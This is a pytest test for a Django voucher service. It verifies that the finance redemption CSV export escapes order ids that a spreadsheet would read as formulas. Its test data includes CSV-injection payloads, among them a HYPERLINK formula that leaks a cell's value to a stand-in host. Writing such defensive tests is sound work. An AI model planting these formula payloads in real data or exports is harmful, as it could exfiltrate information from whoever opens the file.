"""The redemption export is safe to open in a spreadsheet: order ids come from merchants'
checkout systems, and a cell a spreadsheet would read as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection

from tests.redemption.conftest import redeem
from vouchers.finance.selectors import EXPORT_COLUMNS
from vouchers.issuance.chunk import issue_chunk
from vouchers.models import Voucher

pytestmark = pytest.mark.django_db

# Through the checkout API, as a merchant's system would send them.
HOSTILE = {
    '=HYPERLINK("http://example.test/?leak="&A1,"Refund")':
        '\'=HYPERLINK("http://example.test/?leak="&A1,"Refund")',
    "+SUM(1,2)": "'+SUM(1,2)",
    "@cmd": "'@cmd",
    "-2+3": "'-2+3",
    "order-7": "order-7",
    "A=1": "A=1",
}
# The API trims surrounding white space, so these go in beside the checkout's rows.
BEGINS_WITH_WHITE_SPACE = {"\t=1+1": "'\t=1+1", "\r=1+1": "'\r=1+1"}

_COPY_WITH_ORDER_ID = """
INSERT INTO redemption_redemption
    (id, campaign_id, voucher_id, customer_id, order_id, amount_krw, forfeited_krw,
     order_total_krw, merchant_category, status, refunded_krw, created_at, updated_at,
     created_by)
SELECT gen_random_uuid(), campaign_id, voucher_id, customer_id, %(order_id)s, amount_krw,
       forfeited_krw, order_total_krw, merchant_category, status, refunded_krw, created_at,
       updated_at, created_by
FROM redemption_redemption WHERE order_id = 'order-7'
"""


def test_hostile_order_ids_come_out_as_text(make_campaign, load_registry, role_client):
    campaign = make_campaign(slug="hostile", components=[{"category": "all",
                                                          "amount_krw": 50_000}])
    load_registry(campaign, {1: "active"})
    issue_chunk(campaign_id=campaign.pk, lo=1, hi=2, run_id=None, chunk_id=None)
    voucher, checkout = Voucher.objects.get(customer_id=1), role_client("checkout")
    for order_id in HOSTILE:
        created = redeem(checkout, voucher, order_id=order_id, amount_krw=1_000,
                         order_total_krw=2_000)
        assert created.status_code == 201, created.content
        voucher.refresh_from_db()
    with connection.cursor() as cursor:
        for order_id in BEGINS_WITH_WHITE_SPACE:
            cursor.execute(_COPY_WITH_ORDER_ID, {"order_id": order_id})

    response = role_client("finance").get("/api/v1/finance/redemptions/export",
                                           {"campaign": "hostile"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    reader = csv.reader(io.StringIO(text, newline=""))
    assert tuple(next(reader)) == EXPORT_COLUMNS
    rows = [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in reader]
    assert sorted(row["order_id"] for row in rows) == sorted(
        [*HOSTILE.values(), *BEGINS_WITH_WHITE_SPACE.values()])
    # Money stays a plain number; no cell of any column begins a formula.
    assert {row["amount_krw"] for row in rows} == {"1000"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row.values())
